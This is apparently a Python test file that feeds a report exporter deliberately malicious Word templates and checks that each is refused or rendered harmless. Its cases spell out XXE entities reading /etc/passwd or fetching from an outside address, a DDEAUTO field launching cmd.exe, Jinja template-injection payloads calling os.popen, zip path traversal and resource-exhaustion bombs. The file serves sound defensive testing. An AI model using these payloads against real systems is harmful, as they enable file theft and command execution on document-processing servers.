"""Word templates that a reader may bring: entities, links to elsewhere, instructions, macros, and what costs much."""

import io
from collections.abc import Callable, Iterator
from functools import cache, partial
from zipfile import ZIP_DEFLATED, ZipFile

from exports.briefing.compose import ONE_PAGE, brief
from exports.word import TemplateRefused
from exports.word.docx import USUAL, write
from loaders import load
from measures.selection import Selection
from tests.conftest import MADE_UP, SITE
from tests.hostile.case import REFUSED, TEXT, Case, Harmed
from tests.hostile.watched import ADDRESS, COMMAND
from tests.hostile.workbooks import LAUGHS, SYSTEM
from views.view import View, choose

BODY, EDGE, NOTES, LINKS = "word/document.xml", "word/header1.xml", "word/footnotes.xml", "word/_rels/document.xml.rels"
END = {BODY: "</w:body>", EDGE: "</w:hdr>", NOTES: "</w:footnotes>", LINKS: "</Relationships>"}
PARAGRAPH = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PRODUCT = "36863"
"""191 times 193, which stands nowhere unless somebody works it out."""
Change = Callable[[dict[str, bytes]], None]


@cache
def _view() -> View:
    return choose(load(MADE_UP), Selection(), "en", SITE)


def filled(change: Change) -> str:
    """What becomes of a briefing in the usual template with its parts changed, as the dashboard fills a reader's own."""
    with ZipFile(USUAL) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    packed = io.BytesIO()
    with ZipFile(packed, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return brought(packed.getvalue())


def brought(template: bytes) -> str:
    """What becomes of a briefing in a template."""
    view = _view()
    try:
        made = write(brief(view, ["summary"], ONE_PAGE), view.t, template)
    except TemplateRefused as refusal:
        return f"{REFUSED}: {refusal}"
    with ZipFile(io.BytesIO(made)) as archive:
        texts = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8", "replace")
    if PRODUCT in texts or "root:x:" in texts or "<class" in texts:
        raise Harmed("a template was worked out")
    return f"{TEXT}: a document of {len(made)} bytes"


def end(part: str, text: str) -> Change:
    """A part with a text at its end."""

    def change(parts: dict[str, bytes]) -> None:
        assert END[part].encode() in parts[part]
        parts[part] = parts[part].replace(END[part].encode(), (text + END[part]).encode(), 1)

    return change


def begun(part: str, text: str) -> Change:
    """A part with a text before its first element."""

    def change(parts: dict[str, bytes]) -> None:
        head, _, rest = parts[part].partition(b"?>")
        parts[part] = head + b"?>" + text.encode() + rest

    return change


def linked(kind: str, target: str) -> Change:
    """The document with a relation to elsewhere."""
    return end(LINKS, f'<Relationship Id="rId900" Type="{KINDS}/{kind}" Target="{target}" TargetMode="External"/>')


def more(name: str, content: bytes) -> Change:
    return lambda parts: parts.update({name: content})


def placeholder(text: str) -> Change:
    return end(BODY, PARAGRAPH.format(text))


INSTRUCTIONS = "refused: The template may contain only these placeholders"
CHANGES: dict[str, tuple[Change, str]] = {
    "an entity of a file": (begun(BODY, SYSTEM.format("file:///etc/passwd")), "refused: This file declares custom XML entities"),
    "an entity of another host in a header": (begun(EDGE, SYSTEM.format(f"{ADDRESS}/a")), "refused: This file declares custom XML entities"),
    "an entity of entities in the styles": (begun("word/styles.xml", LAUGHS), "refused: This file declares custom XML entities"),
    "a parameter entity in the relations": (begun(LINKS, f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{ADDRESS}/a"> %a;]>'), "refused: This file declares custom XML entities"),
    "a declaration in UTF-16, where nobody looks for it": (more("word/other.xml", (SYSTEM.format("file:///etc/passwd") + "<a>&a;</a>").encode("utf-16")), "refused: Part of this file is not encoded as UTF-8"),
    "a stylesheet of another host": (begun(BODY, f'<?xml-stylesheet href="{ADDRESS}/a.xsl" type="text/xsl"?>'), "text"),
    "an included file": (placeholder('</w:t></w:r></w:p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><w:p><w:r><w:t>'), "text"),
    "a template of its own at another host": (more("word/_rels/settings.xml.rels", f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{KINDS}/attachedTemplate" Target="{ADDRESS}/a.dotm" TargetMode="External"/></Relationships>'.encode()), "text"),
    "a picture of another host": (linked("image", f"{ADDRESS}/a.png"), "text"),
    "an object of another host": (linked("oleObject", f"{ADDRESS}/a.html!"), "text"),
    "a frame of another host": (linked("frame", f"{ADDRESS}/a.html"), "text"),
    "a subdocument that is a file of the machine": (linked("subDocument", "file:///etc/passwd"), "text"),
    "a link that is a script": (linked("hyperlink", "javascript:alert(1)"), "text"),
    "macros": (more("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"MACRO" * 100), "refused: Part of this file is not encoded as UTF-8"),
    "a field that runs a program": (placeholder(f'</w:t></w:r><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k {COMMAND}&quot;"/><w:r><w:t>'), "text"),
    "a field that takes in a file": (placeholder('</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/><w:r><w:t>'), "text"),
    "a sum as a placeholder": (placeholder("{{ 191 * 193 }}"), INSTRUCTIONS),
    "a placeholder that runs a command": (placeholder(f"{{{{ cycler.__init__.__globals__.os.popen('{COMMAND}').read() }}}}"), INSTRUCTIONS),
    "a placeholder that asks for a class": (placeholder("{{ title.__class__.__mro__[1].__subclasses__() }}"), INSTRUCTIONS),
    "a placeholder that calls by a filter": (placeholder("{{ title|attr('__class__') }}"), INSTRUCTIONS),
    "a loop of a thousand million times": (placeholder("{% for a in range(1000000000) %}x{% endfor %}"), INSTRUCTIONS),
    "an included template": (placeholder("{% include '/etc/passwd' %}"), INSTRUCTIONS),
    "an instruction for rows": (placeholder("{%tr for a in body %}"), INSTRUCTIONS),
    "an instruction cut by a run": (placeholder("{{ 191 </w:t></w:r><w:r><w:t>* 193 }}"), INSTRUCTIONS),
    "braces spelled as numbers": (placeholder("&#123;&#123; 191 * 193 &#125;&#125;"), INSTRUCTIONS),
    "an instruction in a remark": (placeholder("{# {{ 191 * 193 }} #}"), INSTRUCTIONS),
    "a placeholder within a placeholder": (placeholder("{{ {{ title }} }}"), INSTRUCTIONS),
    "braces that never close, two million letters of them": (placeholder("{{r " * 450_000), "refused: This file is too large"),
    "a placeholder cut into 60,000 runs": (placeholder("{{ " + "</w:t></w:r><w:r><w:t> " * 30_000 + "title }}"), "text"),
    "20,000 placeholders in a paragraph of 20,000 runs": (placeholder("{{ title </w:t></w:r><w:r><w:t>}}" * 20_000), "refused: This file is too large"),
    "190 placeholders in a paragraph of 25,000 runs": (placeholder("{{ title </w:t></w:r><w:r><w:t>}}" * 190 + "</w:t></w:r><w:r><w:t>x" * 25_000), "text"),
    "150,000 placeholders in a run": (placeholder("{{ title }}" * 150_000), "refused: This file is too large"),
    "an instruction in the title of the file": (more("docProps/core.xml", b'<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{{ 191 * 193 }}</dc:title></cp:coreProperties>'), "text"),
    "an instruction in a footnote": (end(NOTES, '<w:footnote w:id="9">' + PARAGRAPH.format("{{ 191 * 193 }}") + "</w:footnote>"), "text"),
    "an instruction in a header": (end(EDGE, PARAGRAPH.format("{{ 191 * 193 }}")), INSTRUCTIONS),
    "a text of 2 million letters": (placeholder("x" * 2_000_001), "refused: This file is too large"),
    "100,000 paragraphs": (end(BODY, "<w:p/>" * 100_000), "text"),
    "200,000 paragraphs": (end(BODY, "<w:p/>" * 200_000), "refused: This file is too large"),
    "tables in tables": (end(BODY, "<w:tbl><w:tr><w:tc>" * 3_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3_000), ""),
    "9 MB of zeros as a picture": (more("word/media/a.png", bytes(9_000_000)), ""),
    "300 more parts": (lambda parts: parts.update({f"word/a{one}.xml": b"<a/>" for one in range(300)}), "refused: This file is too large"),
    "a part named as a path": (more("../../../tmp/evil.xml", b"<a/>"), ""),
    "no page": (lambda parts: parts.update({BODY: parts[BODY][: parts[BODY].index(b"<w:sectPr")] + b"</w:body></w:document>"}), "refused"),
    "no styles": (lambda parts: parts.update({"word/styles.xml": b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'}), "refused"),
    "relations in a circle": (linked("header", "document.xml"), ""),
    "a body that is a sheet": (lambda parts: parts.update({BODY: b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'}), "refused"),
}  # fmt: skip
"""Changes to the parts of the usual template, and what must come of each."""


def template_cases() -> Iterator[Case]:
    for name, (change, expected) in CHANGES.items():
        yield Case(f"template: {name}", partial(filled, change), expected, heavy=True)
    yield Case(
        "template: no archive", partial(brought, b"PK\x03\x04" + bytes(999)), "refused: This file is not a Word", heavy=True
    )
    yield Case(
        "template: a web page", partial(brought, b"<html><script>1</script>"), "refused: This file is not a Word", heavy=True
    )


MAKERS = (template_cases,)
